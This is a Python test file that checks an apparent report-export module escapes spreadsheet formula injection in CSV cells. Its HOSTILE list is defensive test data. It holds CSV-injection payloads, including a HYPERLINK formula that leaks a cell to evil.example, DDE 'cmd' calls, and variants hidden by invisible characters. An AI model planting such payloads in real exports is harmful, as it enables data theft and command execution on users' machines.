"""Every CSV cell Cadence writes is inert in a spreadsheet (OWASP CSV injection)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cadence.reports.audit_export import csv_chunks
from cadence.reports.spreadsheet import spreadsheet_cell, spreadsheet_row

TRIGGER_TEXT = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
TRIGGERS = frozenset(TRIGGER_TEXT)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0\u2003=cmd|' /C calc'!A0",
    "\uff1dSUM(1)",
    "\n@x",
    # Invisible format characters a spreadsheet may skip before the formula.
    "\ufeff=1+1",
    "\u200b=2",
    "\u200d\u2060 =3",
    "\ufe66SUM(1)",
]


def _cells_after_writing(value: str) -> list[str]:
    chunks = list(csv_chunks([[{"subject": value, "prospect": "a@b.example"}]]))
    rows = list(csv.DictReader(io.StringIO("".join(chunks))))
    return [rows[0]["subject"], rows[0]["prospect"]]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_text_is_written_as_text(value: str) -> None:
    subject, prospect = _cells_after_writing(value)
    assert subject == "'" + value
    assert prospect == "a@b.example"


@pytest.mark.parametrize("value", ["Acme", "Re: pricing", "x=1", "a-b", "", "'=already"])
def test_plain_text_is_left_alone(value: str) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", [3, -4, 2.5, None, True])
def test_non_text_is_left_alone(value: object) -> None:
    assert spreadsheet_cell(value) == value


@given(st.text(alphabet=st.sampled_from(TRIGGER_TEXT + " \u00a0\u3000abc=")) | st.text())
def test_no_cell_starts_a_formula_and_the_text_survives(value: str) -> None:
    safe = spreadsheet_cell(value)
    assert isinstance(safe, str)
    stripped = safe.lstrip()
    assert stripped[:1] not in TRIGGERS
    assert safe in (value, "'" + value)
    (row,) = csv.DictReader(io.StringIO("".join(csv_chunks([[{"subject": value}]]))))
    assert row["subject"].lstrip()[:1] not in TRIGGERS


def test_a_row_is_made_safe_cell_by_cell() -> None:
    assert spreadsheet_row({"a": "=1", "b": 2, "c": "ok"}) == {"a": "'=1", "b": 2, "c": "ok"}
